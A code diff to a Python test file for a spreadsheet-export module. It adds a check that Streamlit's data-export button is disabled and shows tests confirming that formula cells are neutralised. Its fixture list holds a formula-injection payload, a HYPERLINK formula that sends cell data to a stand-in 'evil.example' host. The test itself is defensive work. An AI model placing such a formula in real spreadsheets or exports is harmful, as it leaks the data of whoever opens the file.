@@ -5,7 +5,10 @@ from __future__ import annotations
 
 import csv
 import re
+import subprocess
+import sys
 from datetime import date, datetime
+from pathlib import Path
 
 import analytics_factory as factory
 import pandas as pd
@@ -17,6 +20,7 @@ from core.db import orders, transaction
 from core.spreadsheet import inert, inert_frame
 
 NOW = datetime(2026, 3, 16, 9, 30)
+ROOT = Path(__file__).resolve().parents[2]
 MARCH = (date(2026, 3, 1), date(2026, 3, 15))
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -105,3 +109,11 @@ def test_frames_for_download_and_single_cells_are_made_inert():
     frame = inert_frame(pd.DataFrame({"a": ["=1+1", "ok", None], "n": [1, -2, 3]}))
     assert frame["a"].tolist()[:2] == ["'=1+1", "ok"] and frame["n"].tolist() == [1, -2, 3]
     assert inert("@x") == "'@x" and inert(-5) == -5 and inert("a=b") == "a=b"
+
+
+def test_no_table_offers_its_own_download_or_copy_button():
+    """Grid downloads would bypass the export right, masks and formula neutralising."""
+    shown = subprocess.run(
+        [sys.executable, "-m", "streamlit", "config", "show"], cwd=ROOT, capture_output=True, text=True, check=True
+    ).stdout
+    assert "\ndisableDataExport = true\n" in shown
